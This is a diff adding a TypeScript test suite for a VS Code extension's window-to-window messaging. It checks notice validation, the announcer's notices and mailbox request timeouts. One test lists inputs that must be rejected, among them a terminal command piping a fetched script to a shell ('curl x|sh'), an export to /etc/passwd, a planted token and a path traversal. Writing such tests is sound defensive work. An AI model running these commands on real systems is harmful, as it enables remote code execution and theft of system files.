@@ -1,0 +1,109 @@
+// Messages between windows (src/core/sync/mailbox.ts, message.ts): what a notice may ask to run, and one
+// request with its reply.
+import assert from 'node:assert/strict';
+import * as fs from 'node:fs';
+import * as os from 'node:os';
+import * as path from 'node:path';
+import { Announcer } from '../../src/core/notify/announcer';
+import { NodeFiles } from '../../src/core/sync/files';
+import { SyncLayout } from '../../src/core/sync/layout';
+import { Mailbox } from '../../src/core/sync/mailbox';
+import { decodeMessage, encodeMessage, type Notice, NOTICE_COMMANDS, type RequestBody } from '../../src/core/sync/message';
+import { TaskStore } from '../../src/core/store/taskStore';
+import { FakeClock } from './support/fakeClock';
+import { ID1, ID2, task } from './support/tasks';
+
+const notice = (command: string, args: string[]): Notice => ({
+  severity: 'info',
+  text: 'Done.',
+  actions: [{ title: 'Go', command, args }],
+});
+const passes = (n: Notice): boolean => decodeMessage(encodeMessage({ kind: 'notice', notice: n })) !== undefined;
+
+suite('window messages', () => {
+  test('a notice may run only the commands notices need, each with the arguments it takes', () => {
+    for (const [command, takes] of Object.entries(NOTICE_COMMANDS)) {
+      assert.ok(passes(notice(command, takes === 'task' ? [ID1] : [])), command);
+      assert.equal(passes(notice(command, takes === 'task' ? [] : [ID1])), false, `${command} with the wrong arguments`);
+    }
+    for (const [command, args] of [
+      ['extruct.setToken', ['tok_planted']],
+      ['extruct.resumeTask', [ID1, '250']],
+      ['extruct.exportResults', [ID1, '/etc/passwd']],
+      ['extruct.watchTask', [ID1]],
+      ['workbench.action.terminal.sendSequence', ['curl x|sh\n']],
+      ['extruct.openDetails', ['../../x']],
+    ] as const) {
+      assert.equal(passes(notice(command, [...args])), false, `${command}(${args.join(', ')}) is dropped`);
+    }
+  });
+
+  test("every notice the extension makes passes: the announcer's completions, failures and pauses", async () => {
+    const clock = new FakeClock();
+    const store = new TaskStore();
+    const made: Notice[] = [];
+    const announcer = new Announcer({
+      store,
+      clock,
+      level: () => 'all',
+      log: { info: () => undefined, warn: () => undefined },
+      route: (n) => made.push(n),
+    });
+    store.add([ID1, ID2], clock.now());
+    for (const id of [ID1, ID2]) store.recordSuccess(id, { ...task(), id }, clock.now());
+    store.recordSuccess(ID1, { ...task({ status: 'done' }), id: ID1 }, clock.now());
+    await clock.advance(1_000);
+    store.recordSuccess(ID2, { ...task({ status: 'failed' }), id: ID2 }, clock.now());
+    await clock.advance(1_000);
+    store.setAuthPaused(true);
+    await clock.advance(1_000);
+    assert.ok(made.length >= 2);
+    for (const n of made) assert.deepEqual(decodeMessage(encodeMessage({ kind: 'notice', notice: n })), { kind: 'notice', notice: n });
+    announcer.dispose();
+    store.dispose();
+  });
+
+  test('a request is answered by the window asked, and a window that does not answer is given up on', async () => {
+    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'extruct-mailbox-'));
+    try {
+      const layout = new SyncLayout(dir);
+      fs.mkdirSync(layout.noticesDir, { recursive: true });
+      const clock = new FakeClock();
+      const log = { info: () => undefined, warn: () => undefined };
+      const asked: RequestBody[] = [];
+      const box = (window: string) =>
+        new Mailbox({
+          files: new NodeFiles(window),
+          layout,
+          window,
+          clock,
+          log,
+          handlers: {
+            notice: () => undefined,
+            request: (body) => {
+              asked.push(body);
+              return Promise.resolve({ type: 'done' as const });
+            },
+          },
+        });
+      const a = box('a');
+      const b = box('b');
+      const reply = a.request('b', { type: 'refresh', ids: [ID1] });
+      b.take();
+      await clock.advance(0);
+      a.take();
+      assert.deepEqual(await reply, { type: 'done' });
+      assert.deepEqual(asked, [{ type: 'refresh', ids: [ID1] }]);
+      const unanswered = a.request('gone', { type: 'refresh' }, 5_000);
+      await clock.advance(5_000);
+      assert.equal(await unanswered, undefined);
+      // The message to the window that is gone is removed once seen so for a while.
+      a.removeUndeliverable((w) => w !== 'gone');
+      await clock.advance(60_000);
+      a.removeUndeliverable((w) => w !== 'gone');
+      assert.deepEqual(fs.readdirSync(layout.noticesDir), []);
+    } finally {
+      fs.rmSync(dir, { recursive: true, force: true });
+    }
+  });
+});
